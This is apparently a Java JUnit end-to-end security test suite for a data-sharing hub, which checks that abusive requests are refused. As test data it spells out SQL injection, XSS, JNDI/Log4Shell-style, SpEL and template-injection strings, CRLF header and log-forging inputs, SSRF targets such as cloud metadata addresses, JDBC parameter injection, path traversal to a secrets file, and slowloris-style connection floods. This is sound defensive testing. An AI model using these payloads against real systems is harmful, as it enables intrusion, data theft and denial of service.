package io.sluice.sharing;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever is sent that no caller would mean is answered exactly so; numbers are SECURITY.md's. */
@ExtendWith(OneSharingHub.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AbuseInputE2E {
    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final String REQUESTS = "/api/v1/requests";

    private final SharingHub hub;
    private final Raw raw;

    AbuseInputE2E(SharingHub hub) {
        this.hub = hub;
        this.raw = new Raw(hub.url());
    }

    @AfterAll
    void close() {
        raw.close();
    }

    @ParameterizedTest(name = "SECURITY 30, 59: {0} is 400")
    @ValueSource(
            strings = {
                "/api/v1/datasets?limit=1000000000",
                "/api/v1/datasets?limit=1e99",
                "/api/v1/datasets?limit=-1",
                "/api/v1/datasets?offset=-1",
                "/api/v1/datasets?offset=(select%201)",
                "/api/v1/requests/inbox?limit=1000000000",
                "/api/v1/requests/inbox?limit=0",
                "/api/v1/requests/inbox?after=2031-01-01T00%3A00%3A00Z~r-1",
                "/api/v1/requests/inbox?after=AAAA.BBBB",
                "/api/v1/notices?limit=1000000000",
                "/api/v1/notices?limit=1e9",
                "/api/v1/notices?before=41",
                "/api/v1/log/entries?limit=1000000000",
                "/api/v1/log/entries?after=1e9",
                "/api/v1/log/entries?after=7",
                "/api/v1/log/entries?first=-1e9",
                "/api/v1/grants/given?limit=-1",
                "/api/v1/grants/given?after=AAAA.BBBB",
                "/api/v1/grants/given?state=1%3D1)%20or%20(1%3D1",
                "/api/v1/requests/inbox?sort=(select%201)",
                "/api/v1/datasets?sort=(select%20pg_sleep(1))",
                "/api/v1/datasets?filter=1%3D1)%20or%20(1%3D1",
                "/api/v1/grants?order=id;drop%20table%20granted"
            })
    void aPageThatNobodyCanTurnIsRefused(String path) {
        HttpResponse<String> answer = raw.get(path, headers("steward"));

        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
        assertThat(answer.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
    }

    @Test
    @DisplayName("SECURITY 59: a cursor that was changed, or is another department's, is 400")
    void aCursorIsGoodAsItWasGiven() {
        hub.submit("developer", ask(Map.of()));
        hub.submit("developer", ask(Map.of()));
        String cursor =
                hub.as("steward").get(REQUESTS + "/inbox?limit=1").path("next").asText();

        assertThat(inbox("steward", cursor)).isEqualTo(200);
        assertThat(inbox(
                        "steward",
                        cursor.substring(0, 8) + (cursor.charAt(8) == 'A' ? 'B' : 'A') + cursor.substring(9)))
                .isEqualTo(400);
        assertThat(inbox("steward", cursor + "A")).isEqualTo(400);
        assertThat(inbox("market-steward", cursor)).isEqualTo(400);
    }

    @Test
    @DisplayName("SECURITY 59: positions of one's requests, of notices and of the log are good as they were given")
    void everyCursorIsSigned() {
        List<String> made = List.of(hub.submit("developer", ask(Map.of())), hub.submit("developer", ask(Map.of())));

        onlyAsGiven("developer", REQUESTS + "/sent?limit=1&after=", "two-hats");
        onlyAsGiven("steward", "/api/v1/notices?limit=1&before=", "second-steward");
        onlyAsGiven("auditor", "/api/v1/log/entries?limit=1&kind=request&after=", "developer");
        onlyAsGiven("developer", "/api/v1/log/entries?limit=1&kind=request&after=", "steward");
        made.forEach(this::withdraw);
    }

    /** Nobody has to decide on what was asked here. */
    private void withdraw(String request) {
        hub.as("developer").post(REQUESTS + "/" + request + "/withdraw", Map.of());
    }

    /** @param path without the last parameter's value */
    private void onlyAsGiven(String account, String path, String other) {
        String first = path.substring(0, path.lastIndexOf('&'));
        String cursor = hub.as(account).get(first).path("next").asText();

        assertThat(cursor).as(path).contains(".");
        assertThat(raw.get(path + cursor, headers(account)).statusCode()).isEqualTo(200);
        String changed = (cursor.charAt(0) == 'A' ? 'B' : 'A') + cursor.substring(1);
        for (String wrong : List.of(changed, cursor + "A", "7", "AAAA.BBBB")) {
            assertThat(raw.get(path + wrong, headers(account)).body()).contains("\"code\":\"cursor\"");
        }
        assertThat(raw.get(path + cursor, headers(other)).statusCode()).isEqualTo(400);
    }

    @Test
    @DisplayName("SECURITY 59: what a department asked for is walked page by page, each once")
    void aListIsWalkedByItsCursors() {
        Set<String> made = new TreeSet<>();
        for (int i = 0; i < 3; i++) {
            made.add(hub.submit("developer", ask(Map.of("reference", "walked"))));
        }
        List<String> walked = new ArrayList<>();
        String next = "";
        do {
            JsonNode page = hub.as("developer").get(REQUESTS + "/sent?limit=2&state=open" + next);
            page.path("requests").forEach(each -> walked.add(each.path("id").asText()));
            assertThat(page.path("requests").size()).isLessThanOrEqualTo(2);
            assertThat(page.path("all").asLong()).isGreaterThanOrEqualTo(3);
            next = page.path("next").isTextual() ? "&after=" + page.path("next").asText() : "";
        } while (!next.isEmpty());

        assertThat(walked).doesNotHaveDuplicates().containsAll(made);
        made.forEach(this::withdraw);
        for (JsonNode each : hub.as("developer")
                .get(REQUESTS + "/sent?limit=500&state=closed")
                .path("requests")) {
            assertThat(each.path("state").asText()).isIn("refused", "withdrawn");
        }
    }

    @ParameterizedTest(name = "SECURITY 34: an SVG image sent as {0} is refused")
    @ValueSource(strings = {"svg", "rdf", "ttl", "jsonld", "xlsx"})
    void aPictureIsNoCatalogue(String format) {
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>";

        HttpResponse<String> answer = raw.send(
                "POST",
                "/api/v1/drafts/import?format=" + format,
                svg,
                "Authorization",
                Raw.bearer(hub.token("licence-office")),
                "Content-Type",
                "image/svg+xml");

        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(422);
        assertThat(answer.body()).doesNotContain("alert(1)");
    }

    @Test
    @DisplayName("SECURITY 36: a title with line breaks is a file name of one line")
    void aTitleBreaksNoHeader() throws IOException {
        String contract = SharingHub.contract(SharingHub.CONDITIONAL)
                .replace("id: licences.licence", "id: licences.abuse-title")
                .replace("name: Licences 证照", "name: \"Licences\\r\\nSet-Cookie: abuse=1\\r\\n\\\"; 证照\"");
        hub.as("licence-office").postYaml("/api/v1/interfaces", contract);

        HttpResponse<String> file = raw.get("/interfaces/licences.abuse-title/contract", headers("licence-office"));

        assertThat(file.statusCode()).isEqualTo(200);
        assertThat(file.headers().allValues("Set-Cookie")).isEmpty();
        assertThat(file.headers().firstValue("Content-Disposition").orElseThrow())
                .startsWith("attachment; filename=\"Licences Set-Cookie abuse_1")
                .contains("; filename*=UTF-8''Licences%20Set-Cookie")
                .contains("%E8%AF%81%E7%85%A7.odcs.yaml")
                .doesNotContain("%0D", "%0A");
        assertThat(raw.get(
                                "/interfaces/licences.abuse-title%0d%0aSet-Cookie:%20abuse=1/contract",
                                headers("licence-office"))
                        .headers()
                        .allValues("Set-Cookie"))
                .isEmpty();
    }

    @Test
    @DisplayName("SECURITY 37: a name with line breaks and colours is within one line of JSON of the log")
    void aNameBreaksNoLineOfTheLog() throws IOException {
        String mark = "abuse37" + System.nanoTime();
        String name = mark + "\n{\"level\":\"ERROR\",\"message\":\"" + mark + " forged\"}\r\u001b[31m" + mark;
        raw.send(
                "POST",
                "/api/v1/session",
                json(Map.of("name", name, "password", "no-password-of-anybody")),
                "Content-Type",
                "application/json");
        raw.get("/api/v1/datasets/" + URLEncoder.encode(name, StandardCharsets.UTF_8), headers("developer"));
        raw.get("/" + URLEncoder.encode(name, StandardCharsets.UTF_8), headers("developer", "Accept", "text/html"));
        post("developer", REQUESTS, json(ask(Map.of("view", name, "reference", name))));
        post("licence-office", "/api/v1/sources", json(Map.of("id", name, "kind", "files", "connection", Map.of())));

        for (String line : Files.readAllLines(hub.controlLog())) {
            assertThat(line).doesNotContain("\u001b[31m");
            assertThat(line).doesNotStartWith(mark);
            if (line.contains(mark)) {
                assertThat(tree(line).path("message").asText()).isNotEqualTo(mark + " forged");
            }
        }
        JsonNode denied =
                hub.logged("kind=denial", entry -> entry.path("actor").asText().equals("developer"));
        assertThat(denied.toString()).doesNotContain(mark);
    }

    @Test
    @DisplayName(
            "SECURITY 9: who looks through many overlapping filters is told to wait; filters that leave nearly nobody show nobody")
    void whoLooksThroughManyFiltersIsToldToWait() {
        hub.account("abuse-filters", "licences", List.of("steward"));
        String request = hub.submit("developer", ask(Map.of()));
        String path = REQUESTS + "/" + request + "/preview";

        List<HttpResponse<String>> answers = IntStream.range(0, 100)
                .mapToObj(i -> post(
                        "abuse-filters",
                        path,
                        json(Map.of("outcome", "grant", "rowFilter", "licence_no != 'ZZ-" + i + "'"))))
                .toList();

        assertThat(answers.stream().limit(40)).allMatch(answer -> answer.statusCode() == 200);
        HttpResponse<String> refused = answers.getLast();
        assertThat(refused.statusCode()).isEqualTo(429);
        assertThat(refused.body()).contains("\"code\":\"too-often\"");
        assertThat(Integer.parseInt(refused.headers().firstValue("Retry-After").orElseThrow()))
                .isBetween(1, 3601);
        assertThat(post("second-steward", path, json(Map.of("outcome", "grant")))
                        .statusCode())
                .as("each account by itself")
                .isEqualTo(200);
        withdraw(request);
    }

    private int inbox(String account, String cursor) {
        return raw.get(
                        REQUESTS + "/inbox?limit=1&after=" + URLEncoder.encode(cursor, StandardCharsets.UTF_8),
                        headers(account))
                .statusCode();
    }

    @ParameterizedTest(name = "SECURITY 30, 31: the row filter {0} is 422")
    @ValueSource(
            strings = {
                "1=1) or (1=1",
                "region == '310104'; drop table licence",
                "\"a\".matches(\"(a+)+$\")",
                "[1,2,3,4].all(a, [1,2,3,4].all(b, [1,2,3,4].all(c, [1,2,3,4].all(d, a == b))))",
                "T(java.lang.Runtime).getRuntime()",
                "${jndi:ldap://x.example/a}"
            })
    void aFilterIsAnExpressionAndNothingElse(String filter) {
        HttpResponse<String> answer = post("developer", REQUESTS, json(ask(Map.of("rowFilter", filter))));

        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(422);
        assertThat(answer.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
    }

    @ParameterizedTest(name = "SECURITY 32, 33, 34: {0} is text on the page")
    @ValueSource(
            strings = {
                "T(java.lang.Runtime).getRuntime()",
                "${jndi:ldap://x.example/a}",
                "{{7*7}} #{7*7} {page.request.id}",
                "<script>alert(1)</script>",
                "[here](javascript:alert(1)) <img src=x onerror=alert(1)>",
                "\"><svg onload=alert(1)>"
            })
    void whatIsWrittenIsShownAsItIsWritten(String words) {
        String request = hub.submit("developer", ask(Map.of("purpose", words)));

        String page = raw.get("/requests/" + request, headers("developer", "Accept", "text/html"))
                .body();

        assertThat(page)
                .contains(words.replace("&", "&amp;")
                        .replace("<", "&lt;")
                        .replace(">", "&gt;")
                        .replace("\"", "&quot;")
                        .replace("'", "&#39;"))
                .doesNotContain("<script>alert", "<img src=x", "<svg onload");
        assertThat(hub.as("developer")
                        .get(REQUESTS + "/" + request)
                        .path("ask")
                        .path("purpose")
                        .asText())
                .isEqualTo(words);
        hub.as("developer").post(REQUESTS + "/" + request + "/withdraw", Map.of());
    }

    static Stream<String> searches() {
        return Stream.of("*", "a~2", "/.*.*.*/", "title:* OR *:*", "(((((((", "\\", "\"", "!x +y -z ^9", "a AND NOT");
    }

    @ParameterizedTest(name = "SECURITY 35: {0} is words, not a query language")
    @MethodSource("searches")
    void aSearchIsWords(String words) {
        assertThat(search(words)).isEqualTo(200);
    }

    @Test
    @DisplayName("SECURITY 35: ten thousand clauses are 400")
    void aSearchIsShort() {
        assertThat(search("a OR ".repeat(300))).isEqualTo(400);
        assertThat(search("a OR ".repeat(10_000))).isIn(400, 414);
    }

    private int search(String words) {
        return raw.get("/api/v1/datasets?q=" + URLEncoder.encode(words, StandardCharsets.UTF_8), headers("developer"))
                .statusCode();
    }

    @Test
    @DisplayName("SECURITY 58: deep JSON and many parameters are 400, a large body 413")
    void whatIsTooMuchIsRefused() {
        String deep = "{\"dataset\":".repeat(10_000) + "1" + "}".repeat(10_000);
        String many = IntStream.range(0, 200).mapToObj(i -> "a" + i + "=1").collect(Collectors.joining("&"));

        HttpResponse<String> tooDeep = post("developer", REQUESTS, deep);
        assertThat(tooDeep.statusCode()).as(tooDeep.body()).isEqualTo(400);
        assertThat(tooDeep.body()).contains("\"code\":\"unreadable\"");
        assertThat(raw.get("/api/v1/datasets?" + many, headers("developer")).body())
                .contains("\"code\":\"too-many-parameters\"");
        assertThat(raw.get("/api/v1/datasets?" + many.repeat(50), headers("developer"))
                        .statusCode())
                .isEqualTo(414);
        assertThat(status("POST " + REQUESTS + " HTTP/1.1\r\nHost: x\r\nContent-Length: 1073741824\r\n\r\n"))
                .startsWith("HTTP/1.1 413");
    }

    @Test
    @DisplayName("SECURITY 58: while many connections say nothing, others are served")
    void whoSaysNothingHoldsUpNobody() throws IOException {
        List<Socket> slow = new ArrayList<>();
        try {
            for (int i = 0; i < 300; i++) {
                Socket socket = open();
                socket.getOutputStream()
                        .write("GET /api/v1/me HTTP/1.1\r\nHost: x\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII));
                slow.add(socket);
            }
            assertThat(raw.get("/api/v1/me", headers("developer")).statusCode()).isEqualTo(200);
        } finally {
            for (Socket socket : slow) {
                socket.close();
            }
        }
    }

    @Test
    @DisplayName("SECURITY 60: a key used again: same body → same answer, done once; other body → 422")
    void aKeyIsForOneCall() {
        String key = "abuse-" + System.nanoTime();
        String body = json(ask(Map.of()));

        HttpResponse<String> first = raw.send("POST", REQUESTS, body, headers("developer", "Idempotency-Key", key));
        HttpResponse<String> again = raw.send("POST", REQUESTS, body, headers("developer", "Idempotency-Key", key));
        HttpResponse<String> other = raw.send(
                "POST",
                REQUESTS,
                json(ask(Map.of("purpose", "Another purpose"))),
                headers("developer", "Idempotency-Key", key));

        assertThat(first.statusCode()).isEqualTo(201);
        assertThat(again.statusCode()).isEqualTo(201);
        assertThat(tree(again.body())).isEqualTo(tree(first.body()));
        assertThat(again.headers().firstValue("Location"))
                .isEqualTo(first.headers().firstValue("Location"));
        assertThat(other.statusCode()).isEqualTo(422);
        assertThat(other.body()).contains("\"code\":\"idempotency-key-used\"");
        // Another account's key of the same letters is another key.
        assertThat(raw.send("POST", REQUESTS, body, headers("two-hats", "Idempotency-Key", key))
                        .statusCode())
                .isEqualTo(201);
        assertThat(raw.send("POST", REQUESTS, body, headers("developer", "Idempotency-Key", "with space"))
                        .statusCode())
                .isEqualTo(400);
    }

    @Test
    @DisplayName("SECURITY 27: an eleventh try of a connection within a minute is 429 and says when again")
    void triesOfAConnectionAreFew() {
        hub.account("abuse-scanner", "licences", List.of("department"));
        String body = "{\"purpose\":\"preflight\",\"object\":\"licence-files\"}";

        List<HttpResponse<String>> answers = IntStream.range(0, 14)
                .mapToObj(i -> post("abuse-scanner", "/api/v1/tickets", body))
                .toList();

        assertThat(answers.stream().limit(10)).allMatch(answer -> answer.statusCode() == 200);
        HttpResponse<String> refused = answers.stream()
                .filter(answer -> answer.statusCode() == 429)
                .findFirst()
                .orElseThrow();
        assertThat(refused.body()).contains("\"code\":\"too-often\"");
        assertThat(Integer.parseInt(refused.headers().firstValue("Retry-After").orElseThrow()))
                .isBetween(1, 61);
    }

    @ParameterizedTest(name = "{0}: {1} is {2}")
    @CsvSource(
            delimiter = '|',
            value = {
                "host     | 169.254.169.254                  | host-not-allowed",
                "host     | 2130706433                       | host-not-allowed",
                "host     | 0x7f.1                           | host-not-allowed",
                "host     | 127.1                            | host-not-allowed",
                "host     | 0                                | host-not-allowed",
                "host     | 10.1.2.3                         | host-not-allowed",
                "host     | ip6-localhost                    | host-not-allowed",
                "host     | nowhere.invalid                  | host-not-allowed",
                "host     | ::1                              | source-unfit",
                "host     | ::ffff:127.0.0.1                 | source-unfit",
                "host     | 127.0.0.1,10.1.2.3?x=            | source-unfit",
                "database | x?socketFactory=a                | source-unfit",
                "database | x&AUTODESERIALIZE=true           | source-unfit",
                "database | x;INIT=RUNSCRIPT                 | source-unfit",
                "database | x%3Fa=b                          | source-unfit",
                "database | x#                               | source-unfit",
                "allowLoadLocalInfile | true                 | source-unfit",
                "loggerFile           | /tmp/x               | source-unfit",
                "SSLFACTORY           | x                    | source-unfit",
                "authenticationScheme | JavaKerberos         | source-unfit",
                "tls                  | prefer               | source-unfit",
                "ca                   | ../secrets/keys.json | source-unfit",
            })
    @DisplayName("SECURITY 21-24: a source is no way into the network, and its parts are nothing but parts")
    void aSourceIsRegisteredWhereSourcesMayBe(String part, String value, String code) {
        Map<String, String> connection =
                new TreeMap<>(Map.of("host", "127.0.0.1", "port", "1", "database", "d", "user", "u"));
        connection.put(part, value);
        for (String kind : List.of("postgresql", "mariadb")) {
            HttpResponse<String> answer = post("licence-office", "/api/v1/sources", registration(kind, connection));

            assertThat(answer.statusCode()).as(kind).isEqualTo(422);
            assertThat(answer.body()).contains("\"code\":\"" + code + "\"");
        }
    }

    @Test
    @DisplayName("SECURITY 21: the same for servers of files and for APIs; a public host is not read in the clear")
    void everyKindOfSourceIsRegisteredByTheSameRule() {
        Map<String, String> inside = Map.of("host", "10.1.2.3", "folder", "/drops", "user", "u");
        for (String kind : List.of("files", "http")) {
            assertThat(post("licence-office", "/api/v1/sources", registration(kind, inside))
                            .body())
                    .contains("\"code\":\"host-not-allowed\"");
        }
        assertThat(post(
                                "licence-office",
                                "/api/v1/sources",
                                registration(
                                        "postgresql",
                                        Map.of("host", "1.1.1.1", "database", "d", "user", "u", "tls", "disable")))
                        .body())
                .contains("\"code\":\"tls-needed\"");
    }

    private static String registration(String kind, Map<String, String> connection) {
        return "{\"id\":\"abuse-source\",\"kind\":\"" + kind + "\",\"connection\":{"
                + connection.entrySet().stream()
                        .map(part -> "\"" + part.getKey() + "\":\"" + part.getValue() + "\"")
                        .collect(Collectors.joining(","))
                + "}}";
    }

    private Socket open() throws IOException {
        URI url = URI.create(hub.url());
        return new Socket(url.getHost(), url.getPort());
    }

    /** The first line of the answer to what is sent as it is. */
    private String status(String request) {
        try (Socket socket = open()) {
            socket.setSoTimeout(20_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.getBytes(StandardCharsets.US_ASCII));
            out.flush();
            return new String(socket.getInputStream().readNBytes(12), StandardCharsets.US_ASCII);
        } catch (IOException e) {
            throw new IllegalStateException("No answer", e);
        }
    }

    private HttpResponse<String> post(String account, String path, String body) {
        return raw.send("POST", path, body, headers(account));
    }

    private String[] headers(String account, String... more) {
        return Stream.concat(
                        Stream.of("Authorization", Raw.bearer(hub.token(account)), "Content-Type", "application/json"),
                        Stream.of(more))
                .toArray(String[]::new);
    }

    private static Map<String, Object> ask(Map<String, Object> other) {
        Map<String, Object> ask = new HashMap<>(SharingHub.ask(SharingHub.CONDITIONAL, SharingHub.VIEW));
        ask.putAll(other);
        return ask;
    }

    private static JsonNode tree(String body) {
        try {
            return JSON.readTree(body);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String json(Object body) {
        return JSON.valueToTree(body).toString();
    }
}
